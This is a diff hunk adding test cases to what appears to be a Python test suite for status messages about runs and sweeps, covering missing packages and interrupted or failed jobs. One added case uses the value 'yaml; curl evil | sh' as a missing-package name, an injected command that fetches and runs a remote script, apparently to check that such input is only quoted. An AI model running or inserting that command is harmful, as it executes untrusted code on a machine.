@@ -70,6 +70,21 @@ WORKER = {"device": "X", "versions": {"torch": "2"}, "roofs": {}}
         (RUN, {"hello": {"missing": ["yaml"]}}, "has no yaml"),
         (
             RUN,
+            {"hello": {"missing": ["yaml; curl evil | sh"]}},
+            "it lacks 'yaml; curl evil | sh', which nobody",
+        ),
+        (
+            RUN,
+            {"answers": [{"event": "fault", "exit": 130, "message": "interrupted"}]},
+            "interrupted (somebody ended it there, not here)",
+        ),
+        (
+            SWEEP,
+            {"answers": [{"event": "fault", "exit": 130, "message": "interrupted"}]},
+            "interrupted (somebody ended it there, not here)",
+        ),
+        (
+            RUN,
             {"answers": [{"event": "fault", "exit": [1], "message": None}]},
             "it failed, and said no reason",
         ),
